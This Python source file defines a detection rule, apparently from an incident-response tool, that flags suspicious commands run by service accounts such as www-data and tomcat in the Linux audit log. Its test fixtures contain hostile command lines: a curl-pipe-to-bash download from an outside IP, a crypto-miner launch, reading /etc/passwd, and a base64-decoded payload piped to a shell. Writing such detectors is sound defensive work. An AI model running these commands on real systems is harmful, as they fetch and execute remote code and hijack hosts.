# ruff: noqa: S108 — paths on the examined host, not ours.
"""What the account of a web server or database ran, by the kernel's audit log."""

from collections.abc import Iterable, Iterator
from datetime import UTC, datetime

from hemostat.detect.account_kind import AccountKind, kind_of
from hemostat.detect.check import check, fires, quiet
from hemostat.detect.commands_of_daemons import asks_about_self, is_loose, reason_of
from hemostat.detect.log_ins import time_text
from hemostat.detect.names import SERVICE_ACCOUNTS
from hemostat.detect.observables import observables_in
from hemostat.model.evidence import Source
from hemostat.model.finding import Claim, RuleTexts, Subject
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import Account, TypedCommand
from hemostat.model.text import Text

TEXTS = RuleTexts(
    title=Text(
        en="The audit log shows a service's account doing an intruder's work",
        zh="审计日志显示服务账号执行了入侵者常用操作",
    ),
    summary=Text(
        en="{account} ran {count} such command(s) from {time} on ({where}): {commands}",
        zh="{account} 自 {time} 起执行了 {count} 条可疑命令（{where}）：{commands}",
    ),
    benign=Text(
        en="An application that calls programs by design, or a test of security; ask whoever runs"
        " the application.",
        zh="应用按设计调用外部程序，或正在进行安全测试；请向应用负责人核实。",
    ),
)
_WHEN = datetime(2026, 11, 20, 3, 0, tzinfo=UTC)
_WEB = Account(name="www-data", uid=33, home=HostPath("/var/www"))


def _ran(command: str, account: str = "www-data", line: int = 1) -> TypedCommand:
    return TypedCommand(
        source=Source(path=HostPath("/var/log/audit/audit.log"), line=line),
        account=account,
        command=command,
        via="audit",
        time=_WHEN,
    )


@check(
    "linux.audit.commands-of-service",
    level=Level.HIGH,
    confidence=Level.HIGH,
    category="service_shell",
    attack=("T1059.004", "T1190"),
    incident_types=("webshell", "web_intrusion", "remote_control", "mining"),
    texts=TEXTS,
    next=("keep-evidence", "find-entry", "stop-process-tree", "quarantine-file"),
    by_hand="ausearch -i -m EXECVE -ua {account} | tail -50",
    examples=(
        fires(_WEB, _ran("sh -c 'curl -s http://198.51.100.4/s.sh|bash'")),
        fires(_WEB, _ran("/tmp/.sysupd -o pool.example:3333", line=2)),
        fires(_WEB, _ran("sh -c 'id; uname -a; cat /etc/passwd'")),
        fires(Account(name="tomcat", uid=91), _ran("bash -c 'echo c2g=|base64 -d|sh'", "tomcat")),
        fires(_WEB, _ran("sh -c 'id'"), _ran("chmod 777 /tmp/x", line=2)),
        quiet(_WEB, _ran("sh -c '/usr/sbin/sendmail -t -i'")),
        quiet(_WEB, _ran("sh -c 'convert a.png b.jpg'"), _ran("sh -c 'whoami'", line=2)),
        quiet(Account(name="li", uid=1001), _ran("sh -c 'id; uname -a'", "li")),
        quiet(Account(name="zabbix", uid=110), _ran("sh -c 'uname -a'", "zabbix")),
    ),
)
def commands_of_service(
    typed: Iterable[TypedCommand], accounts: Iterable[Account]
) -> Iterator[Claim]:
    """An account that only a daemon uses fetched and ran, decoded, mined or looked around.

    One question about itself is what installers ask; with something placed where anybody may
    write it is an intruder's.
    """
    services = {each.name for each in accounts if _is_daemons(each)} | (SERVICE_ACCOUNTS)
    found: dict[str, list[tuple[TypedCommand, str]]] = {}
    asked: dict[str, list[TypedCommand]] = {}
    for each in typed:
        if each.via != "audit" or each.account not in services:
            continue
        if reason := reason_of(each.command) or _placed(each.command):
            found.setdefault(each.account, []).append((each, reason))
        elif asks_about_self(each.command):
            asked.setdefault(each.account, []).append(each)
    for account, ran in found.items():
        is_sure = any(not reason.startswith("chmod ") for _, reason in ran)
        if is_sure or account in asked:
            yield _claim(account, [*asked.get(account, []), *(each for each, _ in ran)])


def _is_daemons(account: Account) -> bool:
    return kind_of(account) is AccountKind.CLOSED


def _placed(command: str) -> str:
    """A file made to run where anybody may write."""
    parts = command.split()
    is_made = len(parts) > 2 and parts[0].rpartition("/")[2] == "chmod"
    return f"chmod {parts[-1]}" if is_made and is_loose(parts[-1]) else ""


def _claim(account: str, ran: list[TypedCommand]) -> Claim:
    first = ran[0]
    times = [each.time for each in ran if each.time]
    text = " ".join(each.command for each in ran)
    techniques = {
        "T1105": any(word in text for word in ("curl ", "wget ", "fetch ")),
        "T1496.001": "pool" in text or "stratum" in text or "xmrig" in text,
        "T1082": any(asks_about_self(each.command) for each in ran),
        "T1140": "base64" in text,
        "T1222.002": "chmod " in text,
    }
    return Claim(
        subjects=(
            Subject("account", account),
            Subject("file", first.source.path),
        ),
        because=tuple(ran[:10]),
        values={
            "account": account,
            "count": str(len(ran)),
            "time": time_text(min(times, default=None)),
            "where": f"{first.source.path}:{first.source.line}",
            "commands": " … ".join(each.command for each in ran[:6])[:500],
        },
        attack=tuple(name for name, is_seen in techniques.items() if is_seen),
        observables=tuple(o for each in ran[:50] for o in observables_in(each.command)),
        first_seen=min(times, default=None),
        last_seen=max(times, default=None),
    )
